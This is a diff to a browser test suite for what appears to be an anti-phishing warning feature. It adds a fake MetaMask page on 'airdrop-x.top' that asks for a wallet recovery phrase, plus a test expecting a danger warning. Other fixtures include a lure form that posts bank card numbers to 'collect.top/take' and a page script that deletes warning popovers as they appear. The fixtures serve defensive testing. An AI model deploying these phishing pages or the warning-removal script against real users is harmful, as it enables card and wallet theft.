@@ -11,6 +11,8 @@ const form = `<form action="https://collect.top/take"><label>银行卡号 <input
   <label>备注 <input id="remark" name="remark"></label><button>提交</button></form>`;
 const checkout = `<!doctype html><title>结账</title><h1>订单</h1><p>一双布鞋，199元</p>
   <form action="/pay"><label>Card number <input id="card" autocomplete="cc-number"></label><button>付款</button></form>`;
+const wallet = `<!doctype html><title>MetaMask Wallet</title><h1>Import wallet</h1>
+  <label>Secret recovery phrase (12 words) <textarea id="words"></textarea></label><button>Import</button>`;
 const hostile = `${lure}${form}<script>
   let removed = 0;
   new MutationObserver((all) => { for (const { addedNodes } of all) for (const node of addedNodes) if (node.popover) { node.remove(); removed += 1; document.title = String(removed); } })
@@ -23,6 +25,7 @@ beforeAll(async () => {
   rig = await openChromium();
   for (const host of ['lure-one.top', 'lure-two.top', 'lure-three.top']) rig.web.serve(host, () => lure + form);
   rig.web.serve('hostile.top', () => hostile);
+  rig.web.serve('airdrop-x.top', () => wallet);
   rig.web.serve('shoes.example', () => checkout);
   rig.web.serve('strict.top', () => ({
     body: lure + form,
@@ -58,6 +61,13 @@ describe('a doubtful page', () => {
     expect(bar.text).toContain('lure-one.top');
     expect(bar).toMatchObject({ top: 0, left: 0, width: 1280 });
     expect(bar.height).toBeLessThan(60);
+  });
+
+  test('is one that asks for a wallet’s recovery phrase', async () => {
+    const tab = await rig.open('https://airdrop-x.top/');
+    expect((await boxOf(tab, 'bar')).level).toBe('danger');
+    await tab.page.focus('#words');
+    expect((await boxOf(tab, 'note')).text).toContain('助记词');
   });
 
   test('has a note beside a field before anything is typed, which names the page itself, not the address its form bears', async () => {
